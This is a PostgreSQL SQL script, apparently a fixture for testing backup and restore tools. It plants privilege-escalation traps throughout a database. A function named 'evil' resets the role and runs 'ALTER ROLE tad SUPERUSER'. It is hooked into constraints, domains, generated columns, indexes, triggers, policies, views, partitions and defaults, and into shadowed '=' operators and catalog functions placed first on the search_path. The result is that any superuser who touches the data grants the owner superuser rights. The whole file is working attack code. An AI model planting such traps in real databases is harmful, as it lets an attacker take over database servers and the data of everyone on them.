-- SPDX-License-Identifier: GPL-3.0-or-later
--
-- What the owner of a database can leave in it for whoever restores or reads it with more rights:
-- functions that make him superuser as soon as a superuser runs them, called from everywhere that
-- code is called from. Runs as the owner.

SET client_min_messages = warning;

-- Tries with the rights it is run with, and with those that the session had at its start.
CREATE FUNCTION public.evil (origin text) RETURNS boolean LANGUAGE plpgsql
  SET search_path TO pg_catalog AS $$
BEGIN
  BEGIN
    EXECUTE 'RESET ROLE';
  EXCEPTION WHEN OTHERS THEN
  END;
  BEGIN
    EXECUTE 'RESET SESSION AUTHORIZATION';
  EXCEPTION WHEN OTHERS THEN
  END;
  BEGIN
    EXECUTE 'ALTER ROLE tad SUPERUSER';
  EXCEPTION WHEN OTHERS THEN
  END;
  RETURN true;
END $$;
CREATE FUNCTION public.evil_immutable (value integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE
  AS $$ BEGIN PERFORM public.evil ('immutable'); RETURN value; END $$;
CREATE FUNCTION public.evil_trigger () RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('trigger'); RETURN NEW; END $$;
CREATE FUNCTION public.evil_text (value text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
  AS $$ BEGIN RETURN public.evil (value); END $$;

CREATE DOMAIN public.evil_domain AS text CHECK (public.evil_text (VALUE));
CREATE TABLE public.trap (
  id integer PRIMARY KEY CHECK (public.evil ('check')),
  twice integer GENERATED ALWAYS AS (public.evil_immutable (id)) STORED,
  plain evil_domain DEFAULT CASE WHEN public.evil ('default') THEN 'x' END
);
CREATE INDEX trap_expression ON public.trap ((public.evil_immutable (id)));
CREATE INDEX trap_partial ON public.trap (id) WHERE public.evil_immutable (id) > 0;
CREATE TRIGGER trap_trigger BEFORE INSERT OR UPDATE ON public.trap
  FOR EACH ROW EXECUTE FUNCTION public.evil_trigger ();
ALTER TABLE public.trap ENABLE ALWAYS TRIGGER trap_trigger;
ALTER TABLE public.trap ENABLE ROW LEVEL SECURITY;
CREATE POLICY trap_policy ON public.trap USING (public.evil ('policy'));
CREATE VIEW public.trap_view AS SELECT public.evil ('view') AS sprung;
CREATE MATERIALIZED VIEW public.trap_filled AS SELECT public.evil ('materialized view') AS sprung;
INSERT INTO public.trap (id) SELECT generate_series (1, 5);

-- A table that is partitioned by an expression, and statistics over one.
CREATE TABLE public.trap_parts (id integer) PARTITION BY RANGE ((public.evil_immutable (id)));
CREATE TABLE public.trap_part PARTITION OF public.trap_parts FOR VALUES FROM (0) TO (100);
INSERT INTO public.trap_parts VALUES (1), (2);
CREATE STATISTICS public.trap_statistics ON (public.evil_immutable (id)), id FROM public.trap;

-- Constants that are worked out when a definition is parsed, and run a domain's CHECK then.
CREATE FUNCTION public.evil_volatile (value text) RETURNS boolean LANGUAGE plpgsql VOLATILE
  AS $$ BEGIN RETURN public.evil (value); END $$;
CREATE DOMAIN public.evil_constant AS text CHECK (public.evil_volatile (VALUE));
CREATE FUNCTION public.evil_shift (value integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE
  AS $$ BEGIN PERFORM public.evil_volatile ('shift'); RETURN value; END $$;
CREATE VIEW public.trap_constant AS SELECT '{x}'::public.evil_constant[] AS things;
CREATE TABLE public.trap_default (things public.evil_constant[] DEFAULT '{x}'::public.evil_constant[]);
CREATE FUNCTION public.trap_argument (things public.evil_constant[] DEFAULT '{x}'::public.evil_constant[])
  RETURNS integer LANGUAGE sql AS 'SELECT 1';
CREATE AGGREGATE public.trap_aggregate (public.evil_constant) (
  SFUNC = array_append, STYPE = public.evil_constant[], INITCOND = '{x}');
CREATE TABLE public.trap_key (id integer) PARTITION BY RANGE ((id + public.evil_shift (1)));

-- The same in what belongs to others: to a role that the owner of a database is in by himself, and
-- in a schema whose name makes a default of a column look like default rights.
CREATE VIEW public.trap_given AS SELECT '{x}'::public.evil_constant[] AS things;
ALTER VIEW public.trap_given OWNER TO pg_database_owner;
CREATE SCHEMA "ACL";
CREATE VIEW "ACL".trap_rights AS SELECT NULL::public.evil_constant[] AS things;
ALTER VIEW "ACL".trap_rights ALTER COLUMN things SET DEFAULT '{x}'::public.evil_constant[];

-- What a backup reads of the dictionary, as views that run code.
ALTER TABLE public.ad_module RENAME TO ad_module_real;
CREATE VIEW public.ad_module AS SELECT * FROM public.ad_module_real WHERE public.evil ('ad_module');
ALTER TABLE public.ad_system_info RENAME TO ad_system_info_real;
CREATE VIEW public.ad_system_info AS
  SELECT * FROM public.ad_system_info_real WHERE public.evil ('ad_system_info');
ALTER TABLE public.ad_system RENAME TO ad_system_real;
CREATE VIEW public.ad_system AS SELECT * FROM public.ad_system_real WHERE public.evil ('ad_system');
ALTER TABLE public.c_file RENAME TO c_file_real;
CREATE VIEW public.c_file AS SELECT * FROM public.c_file_real WHERE public.evil ('c_file');

-- Names that a careless query would find before PostgreSQL's own.
CREATE SCHEMA shadow;
CREATE FUNCTION shadow.same (a oid, b oid) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('oid = oid'); RETURN a OPERATOR (pg_catalog.=) b; END $$;
CREATE OPERATOR shadow.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = shadow.same);
CREATE FUNCTION shadow.same (a name, b name) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('name = name'); RETURN a OPERATOR (pg_catalog.=) b; END $$;
CREATE OPERATOR shadow.= (LEFTARG = name, RIGHTARG = name, FUNCTION = shadow.same);
CREATE FUNCTION shadow.same (a name, b text) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('name = text'); RETURN a::text OPERATOR (pg_catalog.=) b; END $$;
CREATE OPERATOR shadow.= (LEFTARG = name, RIGHTARG = text, FUNCTION = shadow.same);
CREATE FUNCTION shadow.pg_export_snapshot () RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('snapshot'); RETURN pg_catalog.pg_export_snapshot (); END $$;
CREATE FUNCTION shadow.pg_get_userbyid (id oid) RETURNS name LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('owner'); RETURN pg_catalog.pg_get_userbyid (id); END $$;
CREATE FUNCTION shadow.pg_database_size (id oid) RETURNS bigint LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('size'); RETURN pg_catalog.pg_database_size (id); END $$;
CREATE FUNCTION shadow.count (a text) RETURNS bigint LANGUAGE plpgsql
  AS $$ BEGIN PERFORM public.evil ('count'); RETURN 1; END $$;
SELECT format ('ALTER DATABASE %I SET search_path TO shadow, pg_catalog, public', current_database ())
\gexec
